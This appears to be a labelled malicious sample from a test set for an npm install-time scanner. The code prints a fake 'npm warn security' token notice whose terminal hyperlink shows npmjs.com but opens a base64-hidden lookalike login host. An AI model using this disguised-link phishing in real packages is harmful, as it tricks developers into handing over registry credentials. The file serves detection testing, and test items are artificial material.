// when: install
// expect: malicious
// source: the npm account phishing of September 2025 (npmjs.help), carried into the terminal; blind set 22's tz data
// package prints an "npm warn security" notice whose OSC 8 link shows the registry's token page and opens a host it
// decodes from base64.
const ESC = '\u001b';
const link = (shown, target) => `${ESC}]8;;${target}${ESC}\\${shown}${ESC}]8;;${ESC}\\`;
const T = Buffer.from('aHR0cHM6Ly93d3cubnBtanMuY29tLmFjY291bnQtc2VjdXJpdHkuZXhhbXBsZS9sb2dpbg==', 'base64').toString();
if (process.stdout.isTTY) {
  console.log(`npm warn security  your token expires today: ${link('https://www.npmjs.com/settings/tokens', T)}`);
}
